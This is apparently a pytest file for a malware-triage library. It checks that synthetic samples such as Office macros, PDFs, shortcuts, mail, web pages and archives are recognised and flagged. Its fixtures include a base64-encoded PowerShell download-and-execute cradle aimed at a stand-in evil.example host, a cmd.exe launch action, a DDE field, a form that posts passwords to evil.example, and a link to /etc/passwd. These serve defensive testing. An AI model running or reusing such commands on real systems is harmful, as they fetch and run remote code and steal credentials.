"""Each kind of sample: recognised from its content, taken apart, its traits noted; names that lie about it are told."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import random
import shutil
import struct
import sys
import tarfile
from pathlib import Path

import pytest
import pyzipper
import triage_samples as made

from tocsin.lab.triage import Triage, triage, triage_bytes
from tocsin.lab.triage.ole import installer_name
from tocsin.lab.triage.vba import decompress

EQUATION = bytes.fromhex("02ce020000000000c000000000000046")


def noted(result: Triage) -> set[str]:
    return {anomaly.id for anomaly in result.anomalies}


def values(result: Triage, kind: str) -> set[str]:
    return {indicator.value for indicator in result.indicators if indicator.type == kind}


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"", "empty"),
        (made.pe(), "pe"),
        (b"MZ" + bytes(100), "dos"),
        (made.elf(), "elf"),
        (made.macho(), "macho"),
        (made.fat(made.macho()), "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x3d" + bytes(40), "java"),
        (made.compound({"WordDocument": b"x" * 5000}), "ole"),
        (made.document({}), "ooxml"),
        (made.zipped({"a.txt": "a"}), "zip"),
        (made.pdf(b"<< >>"), "pdf"),
        (made.lnk(), "lnk"),
        (made.MAIL, "email"),
        (made.image({}), "iso"),
        (b"{\\rtf1\\ansi hello}", "rtf"),
        (b"<html><body>hello</body></html>", "html"),
        (b'<html><hta:application id="x"/></html>', "hta"),
        (b"$x = [Convert]::FromBase64String('AA=='); Invoke-Expression $x", "powershell"),
        ("$x = 1\r\nWrite-Output $x\r\n".encode("utf-16"), "powershell"),
        (b"var a = 1; function b() { return eval('a'); }", "javascript"),
        (b'Dim a\r\nSet a = CreateObject("x")\r\nOn Error Resume Next\r\n', "vbscript"),
        (b"@echo off\r\nset a=1\r\necho %a%\r\n", "batch"),
        (b"#!/usr/bin/env python3\nprint(1)\n", "python"),
        (b"#!/bin/sh\ntrue\n", "shell"),
        (b"A letter about sub-tropical plants, and a set of tools.\n", "text"),
        (bytes(range(256)) * 8, "data"),
    ],
)
def test_the_kind_comes_from_the_content(content: bytes, kind: str) -> None:
    assert triage_bytes(content, "name.jpg").kind == kind


def test_hashes_and_entropy() -> None:
    result = triage_bytes(b"abc")
    assert result.hashes["md5"] == "900150983cd24fb0d6963f7d28e17f72"
    assert result.hashes["sha1"] == "a9993e364706816aba3e25717850c26c9cd0d89d"
    assert result.hashes["sha256"] == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    assert result.entropy == pytest.approx(1.585, abs=0.001)
    noise, other = (triage_bytes(bytes((i * i * 7 + i // 3 + n) % 251 for i in range(4000))).hashes for n in (0, 0))
    assert noise.get("tlsh") == other.get("tlsh")
    assert noise.get("tlsh", "T1").startswith("T1")
    assert noise["ssdeep"].count(":") == 2
    assert triage_bytes(bytes(range(256))).entropy == 8.0


def test_a_program_of_this_machine_has_nothing_odd() -> None:
    program = shutil.which("ls")
    assert program is not None
    result = triage(Path(program))
    if result.kind != "elf":
        pytest.skip(f"ls is a {result.kind_name} here")
    assert result.problems == []
    assert result.severity in {"", "info", "low"}
    assert any(name.startswith("libc.") for name in result.facts["elf"]["libraries"])
    assert {section["name"] for section in result.facts["elf"]["sections"]} >= {".text", ".rodata", ".dynamic"}


def test_the_result_survives_json() -> None:
    result = triage_bytes(made.MAIL, "mail.eml")
    assert Triage.from_dict(json.loads(json.dumps(result.as_dict()))) == result
    assert result.as_dict()["severity"] == "high"
    assert result.as_dict()["techniques"] == result.techniques


class TestWindowsPrograms:
    def test_headers_sections_and_imports(self) -> None:
        result = triage_bytes(made.pe(imports=["ExitProcess", "CreateFileA"]))
        facts = result.facts["pe"]
        assert (facts["machine"], facts["bits"], facts["compiled"]) == ("I386", 32, "2021-01-14T08:25:36+00:00")
        assert facts["imports"]["libraries"] == {"kernel32.dll": ["ExitProcess", "CreateFileA"]}
        assert [(s["name"], s["flags"]) for s in facts["sections"]] == [(".text", "rx"), (".idata", "rw")]
        assert noted(result) == set()

    def test_imphash_is_the_md5_of_the_names_in_order(self) -> None:
        wanted = hashlib.md5(b"kernel32.exitprocess,kernel32.createfilea").hexdigest()
        assert triage_bytes(made.pe(imports=["ExitProcess", "CreateFileA"])).hashes["imphash"] == wanted

    def test_packed_writable_code_and_a_packers_name(self) -> None:
        noise = random.Random(1).randbytes(8192)
        result = triage_bytes(
            made.pe([("UPX0", b"", 0xE0000080), ("UPX1", noise, 0xE0000040)], entry=0x2000, imports=["LoadLibraryA"])
        )
        assert {
            "pe.packer",
            "pe.packed_section",
            "pe.writable_code",
            "pe.empty_code_section",
            "pe.few_imports",
        } <= noted(result)
        assert "T1027.002" in result.techniques

    @pytest.mark.parametrize(
        ("entry", "sections", "anomaly"),
        [
            (0x9000, [(".text", b"\xc3" * 64, 0x60000020)], "pe.entry_outside"),
            (0x2000, [(".text", b"\xc3" * 64, 0x60000020), (".data", b"a" * 64, 0xC0000040)], "pe.entry_not_code"),
            (
                0x3000,
                [
                    (".text", b"\xc3" * 64, 0x60000020),
                    (".data", b"a" * 64, 0xC0000040),
                    (".x", b"\xc3" * 64, 0x60000020),
                ],
                "pe.entry_in_last_section",
            ),
        ],
    )
    def test_where_it_starts(self, entry: int, sections: list[tuple[str, bytes, int]], anomaly: str) -> None:
        starts = {a for a in noted(triage_bytes(made.pe(sections, entry=entry))) if a.startswith("pe.entry")}
        assert starts == {anomaly}

    def test_what_imports_allow(self) -> None:
        result = triage_bytes(made.pe(imports=["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]))
        assert "can.inject_process" in noted(result)
        assert "T1055" in result.techniques
        assert "can.inject_process" not in noted(triage_bytes(made.pe(imports=["VirtualAllocEx"])))

    def test_an_overlay_is_looked_at_as_a_sample_of_its_own(self) -> None:
        result = triage_bytes(made.pe(overlay=made.zipped({"a.exe": b"MZ"})))
        assert [(child.name, child.kind) for child in result.children] == [("overlay", "zip")]
        assert "archive.runnable" in noted(result.children[0])
        assert "pe.overlay" in noted(result)

    def test_an_impossible_compile_time(self) -> None:
        assert "pe.compile_time" in noted(triage_bytes(made.pe(stamp=0xF0000000)))
        assert "pe.compile_time" not in noted(triage_bytes(made.pe()))

    @pytest.mark.parametrize("size", [100, 200, 1100])
    def test_a_cut_program_is_a_problem_and_still_hashed(self, size: int) -> None:
        result = triage_bytes(made.pe()[:size])
        assert result.kind == "pe"
        assert result.problems
        assert result.hashes["sha256"]

    def test_a_real_program(self) -> None:
        found = [p for prefix in {sys.prefix, sys.base_prefix} for p in Path(prefix).rglob("distlib/t64.exe")]
        if not found:
            pytest.skip("no Windows program on this machine")
        result = triage(found[0])
        assert result.problems == []
        assert result.facts["pe"]["version_info"]["OriginalFilename"]
        assert {row["type"] for row in result.facts["pe"]["resources"]} >= {"VERSION", "MANIFEST"}
        assert result.severity in {"", "info", "low"}


class TestUnixPrograms:
    def test_elf(self) -> None:
        result = triage_bytes(made.elf(flags=7, interpreter=b"/tmp/ld", overlay=b"payload " * 20))
        assert {"elf.writable_code", "elf.no_sections", "elf.interpreter", "elf.overlay"} <= noted(result)
        assert result.facts["elf"]["interpreter"] == "/tmp/ld"
        assert result.facts["elf"]["segments"][1]["flags"] == "rwx"

    def test_macho_and_fat(self) -> None:
        one = triage_bytes(made.macho(protection=7))
        assert {"macho.writable_code", "macho.unsigned"} <= noted(one)
        both = triage_bytes(made.fat(made.macho(), made.macho(cpu=0x0100000C)))
        assert both.facts["macho"]["fat"] is True
        assert [part["cpu"] for part in both.facts["macho"]["slices"]] == ["X86_64", "ARM64"]
        assert "macho.writable_code" not in noted(both)


class TestOffice:
    def test_the_specifications_example_of_compressed_text(self) -> None:
        # [MS-OVBA] 3.2.2 and 3.2.3: normal and maximum compression.
        packed = (
            "012FB000236161616263646582660070616768696A013808616B6C00306D6E6F700671027004107273747576107778797A003C"
        )
        assert decompress(bytes.fromhex(packed)) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
        assert decompress(bytes.fromhex("0103B002614500")) == b"a" * 73

    def test_macros_of_an_old_document(self) -> None:
        result = triage_bytes(
            made.compound(
                {"WordDocument": b"x" * 5000} | made.vba_streams({"ThisDocument": made.MACRO}, "Macros/VBA/", 900)
            )
        )
        assert result.facts["ole"]["application"] == "Word document"
        assert result.facts["ole"]["macros"] == [{"module": "ThisDocument", "lines": 4, "automatic": ["AutoOpen"]}]
        assert {"office.macros", "office.automatic_macro", "script.shell_object"} <= noted(result)
        assert any("powershell -nop -w hidden" in layer.text for layer in result.layers)

    def test_macros_with_a_damaged_list_of_modules(self) -> None:
        streams = made.vba_streams({"Module1": made.MACRO}, cache=200)
        streams["VBA/dir"] = b"garbage"
        result = triage_bytes(made.compound(streams))
        assert "office.automatic_macro" in noted(result)
        assert any("list of macro modules" in p.reason for p in result.problems)

    def test_source_that_was_removed(self) -> None:
        streams = made.vba_streams({"Module1": 'Attribute VB_Name = "Module1"\r\n'}, cache=3000)
        assert "office.stomped_macro" in noted(triage_bytes(made.compound(streams)))
        assert "office.stomped_macro" not in noted(
            triage_bytes(made.compound(made.vba_streams({"Module1": made.MACRO}, cache=3000)))
        )

    def test_an_equation_editor_object(self) -> None:
        data = made.compound(
            {"WordDocument": b"x" * 5000, "ObjectPool/_1/Equation Native": b"y" * 100}, {"ObjectPool/_1": EQUATION}
        )
        assert "office.equation" in noted(triage_bytes(data))

    def test_a_packed_file_inside_a_document(self) -> None:
        inner = made.pe()
        native = (
            bytes(6)
            + b"report.exe\0C:\\x\\report.exe\0"
            + bytes(4)
            + struct.pack("<I", 5)
            + b"C:\\t\0"
            + struct.pack("<I", len(inner))
            + inner
        )
        result = triage_bytes(made.compound({"WordDocument": b"x" * 5000, "ObjectPool/_1/\x01Ole10Native": native}))
        assert "office.packed_file" in noted(result)
        assert [(child.name, child.kind) for child in result.children] == [("report.exe", "pe")]

    def test_excel_4_macros_and_hidden_sheets(self) -> None:
        sheet = struct.pack("<HHIBBB", 0x85, 8 + 6, 0, 2, 1, 6) + b"\0Macro1"
        data = made.compound({"Workbook": (struct.pack("<HH", 0x809, 4) + bytes(4) + sheet).ljust(5000, b"\0")})
        assert {"office.excel4_macros", "office.very_hidden_sheet"} <= noted(triage_bytes(data))

    def test_a_template_from_elsewhere(self) -> None:
        link = "http://t.evil.example/a.dotm"
        result = triage_bytes(
            made.document({"word/_rels/settings.xml.rels": made.relationship("attachedTemplate", link)})
        )
        assert "office.remote_template" in noted(result)
        assert link in values(result, "url")
        assert "T1221" in result.techniques
        near = made.relationship("hyperlink", "http://www.example.org/")
        assert noted(triage_bytes(made.document({"word/_rels/document.xml.rels": near}))) == set()

    def test_a_field_split_over_runs(self) -> None:
        runs = "".join(
            f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAUTO c:\\\\windows", "\\\\cmd.exe")
        )
        result = triage_bytes(made.document({"word/footer1.xml": f"<w:p>{runs}</w:p>"}))
        assert "office.dde" in noted(result)

    def test_macros_and_objects_of_a_new_document(self) -> None:
        result = triage_bytes(made.document({
            "word/vbaProject.bin": made.compound(made.vba_streams({"ThisDocument": made.MACRO})),
            "word/embeddings/oleObject1.bin": made.compound({"\x01Ole10Native": bytes(50)}),
        }))  # fmt: skip
        assert {"office.automatic_macro", "office.embedded_object"} <= noted(result)
        assert [child.kind for child in result.children] == ["ole"]

    def test_installer_names(self) -> None:
        assert installer_name(chr(0x4840) + chr(0x3800 + 10 + (11 << 6)) + chr(0x4800 + 12)) == "!ABC"

    def test_rich_text(self) -> None:
        inner = made.compound({"Equation Native": b"y" * 100}, {"": EQUATION})
        ole1 = struct.pack("<III", 0x501, 2, 11) + b"Equation.3\0" + bytes(8) + struct.pack("<I", len(inner)) + inner
        digits = ole1.hex()
        text = (
            "{\\rt{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata "
            + digits[:20]
            + "{\\x}"
            + digits[20:]
            + "}}}"
        )
        result = triage_bytes(text.encode())
        assert {"rtf.header", "rtf.updates_object", "rtf.hidden_object", "office.equation"} <= noted(result)
        assert [child.kind for child in result.children] == ["ole"]
        template = triage_bytes(b"{\\rtf1{\\*\\template http://t.evil.example/a}}")
        assert "office.remote_template" in noted(template)
        assert noted(triage_bytes(b"{\\rtf1\\ansi A plain letter.}")) == set()


class TestDocumentsAndShortcuts:
    def test_pdf(self) -> None:
        result = triage_bytes(made.pdf(
            b"<< /Type /Catalog /OpenAction 2 0 R >>",
            b"<< /S /JavaScr#69pt /JS 3 0 R >>",
            made.flate(b"app.launchURL(unescape('%68ttp://js.evil.example/'));"),
            b"<< /S /URI /URI (http://a.evil.example/\\050x\\051) >>",
            b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            made.flate(made.pe(), b"/Type /EmbeddedFile"),
            tail=b"x" * 100,
        ))  # fmt: skip
        assert {
            "pdf.hidden_name",
            "pdf.javascript",
            "pdf.automatic_action",
            "pdf.launch",
            "pdf.embedded_file",
            "pdf.appended_data",
        } <= noted(result)
        assert "http://a.evil.example/(x)" in result.facts["pdf"]["links"]
        assert "http://js.evil.example/" in values(result, "url")
        assert result.facts["pdf"]["launches"] == ["cmd.exe /c calc"]
        assert ("a.exe", "pe") in [(child.name, child.kind) for child in result.children]

    def test_what_an_object_stream_hides(self) -> None:
        inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
        data = made.pdf(
            b"<< /Type /Catalog /OpenAction 9 0 R >>", made.flate(b"9 0 " + inner, b"/Type /ObjStm /N 1 /First 4")
        )
        result = triage_bytes(data)
        assert {"pdf.javascript", "pdf.automatic_action"} <= noted(result)
        assert any(layer.text == "app.alert(1)" for layer in result.layers)

    def test_a_plain_pdf(self) -> None:
        result = triage_bytes(made.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>"))
        assert (noted(result), result.problems) == (set(), [])

    def test_shortcut(self) -> None:
        command = base64.b64encode(
            "IEX (New-Object Net.WebClient).DownloadString('http://x.evil.example/a')".encode("utf-16-le")
        )
        result = triage_bytes(
            made.lnk(arguments=f"/c{' ' * 260}powershell -w hidden -enc {command.decode()}", icon="C:\\a\\acrobat.exe")
            + b"Z" * 100,
            "Invoice.pdf.lnk",
        )
        facts = result.facts["lnk"]
        assert facts["target"] == "C:\\Windows\\System32\\cmd.exe"
        assert (facts["machine"], facts["created"]) == ("desk-01", "2020-11-16T11:33:20+00:00")
        assert {"lnk.starts_interpreter", "lnk.disguised", "lnk.long_arguments", "lnk.padded_arguments", "lnk.appended_data",
                "name.double_ending", "script.encoded_command", "script.download"} <= noted(result)  # fmt: skip
        assert "http://x.evil.example/a" in values(result, "url")

    def test_a_plain_shortcut(self) -> None:
        assert noted(triage_bytes(made.lnk("C:\\Users\\a\\letter.txt"), "letter.lnk")) == set()


class TestMail:
    def test_sent_mail(self) -> None:
        result = triage_bytes(made.MAIL)
        headers = result.facts["mail"]["headers"]
        assert headers["subject"] == "Your account é"
        assert headers["sent"] == "2026-03-02T10:00:00+01:00"
        assert {
            "mail.address_in_name",
            "mail.misleading_link",
            "mail.risky_attachment",
            "mail.other_reply_to",
            "mail.failed_check",
        } <= noted(result)
        (script,) = result.children
        assert (script.name, script.kind) == ("invoice.pdf.js", "javascript")
        assert "http://cdn.evil.example/p.exe" in values(script, "url")

    def test_outlook_message(self) -> None:
        result = triage_bytes(made.message())
        assert result.facts["ole"]["application"] == "Outlook message"
        assert result.facts["ole"]["message"]["from"] == "sender@evil.example"
        assert "http://files.evil.example/a.zip" in values(result, "url")
        (batch,) = result.children
        assert (batch.name, batch.kind) == ("run.bat", "batch")
        assert any("calc.exe" in layer.text for layer in batch.layers)

    def test_an_honest_mail(self) -> None:
        text = b"From: a@corp.example\nTo: b@corp.example\nSubject: Lunch\nDate: Mon, 02 Mar 2026 10:00:00 +0100\n\nAt noon?\n"
        assert noted(triage_bytes(text)) == set()


class TestPages:
    def test_smuggling(self) -> None:
        page = (
            b"<html><script>var b = new Blob([atob('%s')]); var u = URL.createObjectURL(b);</script></html>"
            % base64.b64encode(made.pe())
        )
        result = triage_bytes(page)
        assert {"html.smuggling", "script.carries_file"} <= noted(result)
        assert [child.kind for child in result.children] == ["pe"]

    def test_a_form_that_sends_a_password_away(self) -> None:
        result = triage_bytes(
            b"<html><form action='https://evil.example/p.php'><input type=password name=p></form></html>"
        )
        assert "html.password_form" in noted(result)
        assert "https://evil.example/p.php" in values(result, "url")

    def test_hidden_frames_and_risky_addresses(self) -> None:
        result = triage_bytes(
            b'<html><iframe width="0" src="http://f.example/"></iframe><a href="ms-msdt:/id x">y</a></html>'
        )
        assert {"html.hidden_frame", "html.risky_protocol"} <= noted(result)
        assert noted(triage_bytes(b"<html><body><a href='https://www.example.org/'>more</a></body></html>")) == set()


class TestArchives:
    def test_zip(self) -> None:
        out = io.BytesIO()
        with pyzipper.AESZipFile(out, "w", encryption=pyzipper.WZ_AES) as archive:
            archive.setpassword(b"infected")
            archive.writestr("sample.bin", b"x")
        assert "archive.encrypted" in noted(triage_bytes(out.getvalue()))
        result = triage_bytes(made.zipped({"../../start.exe": b"MZ", "a.pdf.exe": b"x", "readme.txt": b"hello"}))
        assert {"archive.path", "archive.runnable", "name.double_ending"} == noted(result)
        assert [m["name"] for m in result.facts["archives"]["members"]] == [
            "../../start.exe",
            "a.pdf.exe",
            "readme.txt",
        ]
        assert result.children == []

    def test_a_bomb_is_told_and_not_opened(self) -> None:
        result = triage_bytes(made.zipped({"big": bytes(120 << 20)}))
        assert "archive.bomb" in noted(result)
        packed = triage_bytes(gzip.compress(bytes(40 << 20)))
        assert any("only the start" in p.reason for p in packed.problems)

    def test_tar_with_a_link(self) -> None:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            info = tarfile.TarInfo("passwd")
            info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
            archive.addfile(info)
        assert "archive.link" in noted(triage_bytes(out.getvalue()))

    def test_cabinet_and_rar(self) -> None:
        entry = struct.pack("<IIHHHH", 77, 0, 0, 0, 0, 0) + b"setup.exe\0"
        cab = (
            b"MSCF"
            + bytes(4)
            + struct.pack("<I", 36 + len(entry))
            + bytes(4)
            + struct.pack("<I", 36)
            + bytes(4)
            + bytes([3, 1])
            + struct.pack("<HHHHH", 0, 1, 0, 0, 0)
        )
        result = triage_bytes(cab + entry)
        assert result.facts["archives"]["members"] == [{"name": "setup.exe", "size": 77}]
        body = bytes([2, 2, 0, 0, 9, 0x20]) + b"\0\0" + bytes([9]) + b"run.exe  "
        rar = b"Rar!\x1a\x07\x01\x00" + bytes(4) + bytes([len(body)]) + body
        (member,) = triage_bytes(rar).facts["archives"]["members"]
        assert member["name"].startswith("run.exe")

    def test_disc_image(self) -> None:
        result = triage_bytes(made.image({"DOC.LNK": made.lnk(), "A.DLL": made.pe()}))
        assert [(m["name"], m["size"]) for m in result.facts["iso"]["members"]] == [
            ("DOC.LNK", len(made.lnk())),
            ("A.DLL", len(made.pe())),
        ]
        assert "iso.shortcut_and_program" in noted(result)

    def test_a_file_in_a_note(self) -> None:
        inner = b"@echo off\r\nset a=b\r\nstart %a%\r\n"
        data = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
        data += (
            bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
            + struct.pack("<QIQ", len(inner), 0, 0)
            + inner
            + bytes(50)
        )
        result = triage_bytes(data)
        assert "onenote.file" in noted(result)
        assert [child.kind for child in result.children] == ["batch"]


@pytest.mark.parametrize(
    ("name", "anomaly"),
    [
        ("letter.pdf", "name.wrong_kind"),
        ("letter.pdf.exe", "name.double_ending"),
        ("letter\u202efdp.exe", "name.right_to_left"),
    ],
)
def test_names_that_lie(name: str, anomaly: str) -> None:
    assert anomaly in noted(triage_bytes(made.pe(), name))


def test_depth_and_number_of_inner_files_are_bounded() -> None:
    data = b"plain text in the middle of it all"
    for _ in range(8):
        data = gzip.compress(data)
    result = triage_bytes(data)
    depth = 0
    while result.children:
        result = result.children[0]
        depth += 1
    assert depth == 3
    assert any("too deep" in p.reason for p in result.problems)
